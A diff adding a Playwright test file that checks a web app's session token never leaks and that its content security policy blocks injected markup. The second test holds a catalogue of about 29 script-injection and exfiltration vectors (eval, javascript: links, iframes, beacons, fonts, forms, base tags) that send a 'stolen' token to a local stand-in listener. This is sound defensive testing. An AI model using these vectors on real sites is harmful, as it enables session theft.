@@ -1,0 +1,183 @@
+import { once } from 'node:events'
+import { type AddressInfo, createServer } from 'node:net'
+import { figure } from '#test/proof.ts'
+import { demoMorning, origin } from './environment.ts'
+import { goInApp, settled } from './helpers.ts'
+import { linkOf, sentQuote } from './made-quotes.ts'
+import { demoPassword, people } from './people.ts'
+import { addressesOf, insideScreens } from './screens.ts'
+import { type Page, expect, test } from './test.ts'
+
+/** Where a page could keep or show something, but for its `user` in the browser's storage. */
+const elsewhere = () => {
+  const { user: _, ...kept } = localStorage
+  return [
+    location.href,
+    document.referrer,
+    document.cookie,
+    document.documentElement.outerHTML,
+    JSON.stringify(kept),
+    JSON.stringify(Object.entries(sessionStorage)),
+    JSON.stringify(history.state),
+  ].join('\n')
+}
+
+// S9.
+test('the token is in no address and nowhere on a screen, and every script is our own', async ({
+  browser,
+}) => {
+  test.setTimeout(300_000)
+  const context = await browser.newContext({ baseURL: origin, locale: 'en-AU' })
+  const asked: { url: string; referer: string; type: string }[] = []
+  context.on('request', (one) => {
+    asked.push({ url: one.url(), referer: one.headers()['referer'] ?? '', type: one.resourceType() })
+  })
+  const said: string[] = []
+  context.on('console', (message) => said.push(message.text()))
+  const page = await context.newPage()
+  await page.clock.setFixedTime(demoMorning)
+  await page.goto('/login')
+  await page.getByLabel('Email').fill(people.admin.email)
+  await page.getByRole('textbox', { name: 'Password' }).fill(demoPassword)
+  await page.getByRole('button', { name: 'Sign in', exact: true }).click()
+  await page.waitForURL('**/dashboard')
+  await settled(page)
+  const { token } = JSON.parse(await page.evaluate(() => localStorage.getItem('user') ?? '')) as {
+    token: string
+  }
+  expect(token.length).toBeGreaterThan(100)
+
+  let seen = 0
+  for (const screen of insideScreens)
+    for (const address of (await addressesOf(screen, 'admin')).slice(0, 1)) {
+      await goInApp(page, address)
+      expect((await page.evaluate(elsewhere)).includes(token), address).toBe(false)
+      seen++
+    }
+  expect(await page.evaluate(async () => [await caches.keys(), await indexedDB.databases()])).toEqual([
+    [],
+    [],
+  ])
+  expect(asked.filter(({ url, referer }) => `${url} ${referer}`.includes(token))).toEqual([])
+  expect(said.filter((text) => text.includes(token))).toEqual([])
+  const scripts = asked.filter(({ type }) => type === 'script')
+  expect(scripts.length).toBeGreaterThan(0)
+  const own = (url: string) => /^(data|blob):/.test(url) || new URL(url).origin === origin
+  expect(asked.filter(({ url }) => !own(url))).toEqual([])
+  figure(
+    'S9',
+    `${asked.length} requests from ${seen} screens, ${scripts.length} of them for scripts: 0 elsewhere, 0 with the token in an address`,
+  )
+})
+
+/** Takes note of what is asked for, and answers nobody. */
+async function listen() {
+  const heard: string[] = []
+  const server = createServer((socket) => {
+    socket
+      .on('error', () => {})
+      .once('data', (sent) => {
+        heard.push(sent.toString().split('\r\n', 1)[0] ?? '')
+        socket.destroy()
+      })
+  }).listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  return { port: (server.address() as AddressInfo).port, heard, close: () => server.close() }
+}
+
+/** What somebody could try who got their markup into a page: to run their own script, or to send the token away. */
+const attempts = async (elsewhereOrigin: string) => {
+  const ran: string[] = []
+  Object.assign(globalThis, { ran })
+  const run = (name: string) => `globalThis.ran.push(${JSON.stringify(name)})`
+  const add = (tag: string, fields: Record<string, string>, text = '') => {
+    const element = document.createElement(tag)
+    for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value)
+    element.textContent = text
+    document.body.append(element)
+    return element
+  }
+  const data = (name: string) => `data:text/javascript,${encodeURIComponent(run(name))}`
+  const blob = (name: string) => URL.createObjectURL(new Blob([run(name)], { type: 'text/javascript' }))
+  const evaluated = (name: string) =>
+    (Reflect.get(globalThis, 'eval') as (text: string) => unknown)(run(name))
+  const compiled = (name: string) =>
+    (Reflect.get(globalThis, 'Function') as unknown as (text: string) => () => void)(run(name))()
+  let trying = ''
+  const away = () => `${elsewhereOrigin}/${encodeURIComponent(trying)}?token=stolen`
+  const tries: Record<string, () => unknown> = {
+    'inline script': () => add('script', {}, run('inline script')),
+    'inline module': () => add('script', { type: 'module' }, run('inline module')),
+    handler: () => add('button', { onclick: run('handler') }).click(),
+    'javascript link': () => add('a', { href: `javascript:${run('javascript link')}` }).click(),
+    'data script': () => add('script', { src: data('data script') }),
+    'blob script': () => add('script', { src: blob('blob script') }),
+    'script from elsewhere': () => add('script', { src: `${away()}.js` }),
+    eval: () => evaluated('eval'),
+    'new Function': () => compiled('new Function'),
+    'text timer': () => setTimeout(run('text timer') as unknown as () => void),
+    'data import': () => import(/* @vite-ignore */ data('data import')),
+    'blob worker': () => new Worker(blob('blob worker')),
+    'frame with text': () => add('iframe', { srcdoc: `<script>parent.ran.push('frame with text')</script>` }),
+    'javascript frame': () => add('iframe', { src: `javascript:parent.${run('javascript frame')}` }),
+    frame: () => add('iframe', { src: away() }),
+    object: () => add('object', { data: away() }),
+    embed: () => add('embed', { src: away() }),
+    picture: () => add('img', { src: away() }),
+    style: () => add('link', { rel: 'stylesheet', href: away() }),
+    'inline style': () => add('style', {}, `body { background: url(${away()}) }`),
+    font: () => new FontFace('stolen', `url(${away()})`).load(),
+    sound: () => add('audio', { src: away(), autoplay: '' }),
+    prefetch: () => add('link', { rel: 'prefetch', href: away() }),
+    fetch: () => fetch(away(), { mode: 'no-cors' }),
+    beacon: () => navigator.sendBeacon(away()),
+    socket: () => new WebSocket(away().replace('http', 'ws')),
+    stream: () => new EventSource(away()),
+    form: () => (add('form', { action: away(), method: 'post', target: 'away' }) as HTMLFormElement).submit(),
+    base: () => {
+      add('base', { href: `${elsewhereOrigin}/` })
+      return fetch('below-the-base')
+    },
+  }
+  const refused: string[] = []
+  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.violatedDirective))
+  for (const [name, attempt] of Object.entries(tries)) {
+    // Not at once: what the test's own tools evaluate is not held to the policy.
+    await new Promise((next) => setTimeout(next, 5))
+    await new Promise<void>((next) =>
+      setTimeout(() => {
+        trying = name
+        try {
+          Promise.resolve(attempt()).catch(() => {})
+        } catch {
+          // Refused at once.
+        }
+        next()
+      }),
+    )
+  }
+  await new Promise((next) => setTimeout(next, 300))
+  return { ran, tried: Object.keys(tries).length, refused: refused.length }
+}
+
+async function tryAll(page: Page) {
+  const listener = await listen()
+  const outcome = await page.evaluate(attempts, `http://127.0.0.1:${listener.port}`)
+  listener.close()
+  return { ...outcome, sent: listener.heard }
+}
+
+// S9.
+test('what got into a page all the same runs no script and sends nothing away', async ({ page }) => {
+  let tried = 0
+  for (const address of ['/login', await linkOf(await sentQuote())]) {
+    await page.goto(address)
+    await settled(page)
+    const outcome = await tryAll(page)
+    expect(outcome, address).toMatchObject({ ran: [], sent: [] })
+    // A style and what the base would lead elsewhere are held back without a word for each.
+    expect(outcome.refused).toBeGreaterThan(20)
+    tried += outcome.tried
+  }
+  figure('S9', `${tried} tries of markup in a page to run a script or to send something away: 0 ran, 0 sent`)
+})
